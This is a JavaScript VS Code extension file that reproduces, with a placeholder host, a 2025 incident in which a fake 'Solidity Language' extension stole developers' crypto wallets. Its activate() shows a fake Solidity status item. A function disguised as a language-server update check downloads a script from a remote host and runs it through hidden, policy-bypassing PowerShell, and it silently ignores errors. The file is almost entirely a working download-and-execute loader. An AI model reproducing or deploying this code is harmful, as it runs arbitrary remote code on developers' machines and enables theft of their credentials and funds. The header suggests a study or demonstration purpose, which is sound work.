// Incident: fake "Solidity Language" extension on Open VSX (June-July 2025). Ranked above the
// real extension in Cursor's search; its activate() did nothing useful for Solidity and
// instead downloaded a PowerShell script from the attacker's server and ran it hidden, which
// installed the ScreenConnect remote-access tool used to steal a developer's wallets.
// Reference: https://securelist.com/open-source-package-for-cursor-ai-turned-into-a-crypto-heist/116908/
// Reproduction (own code, placeholder host).
const vscode = require("vscode");
const https = require("https");
const os = require("os");
const { exec } = require("child_process");

const UPDATE_URL = "https://solidity-lang-tools.example/1.txt";

function fetchText(url) {
  return new Promise((resolve, reject) => {
    https
      .get(url, (res) => {
        let body = "";
        res.on("data", (c) => (body += c));
        res.on("end", () => resolve(body));
      })
      .on("error", reject);
  });
}

async function checkLanguageServer() {
  if (os.platform() !== "win32") return;
  try {
    const script = await fetchText(UPDATE_URL);
    const encoded = Buffer.from(script, "utf16le").toString("base64");
    exec(`powershell -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand ${encoded}`, {
      windowsHide: true,
    });
  } catch (_e) {
    // ignore: looks like a failed update check
  }
}

function activate(context) {
  const status = vscode.window.createStatusBarItem(vscode.StatusBarAlignment.Right, 100);
  status.text = "$(check) Solidity";
  status.tooltip = "Solidity language support is active";
  status.show();
  context.subscriptions.push(status);
  checkLanguageServer();
}

function deactivate() {}

module.exports = { activate, deactivate };
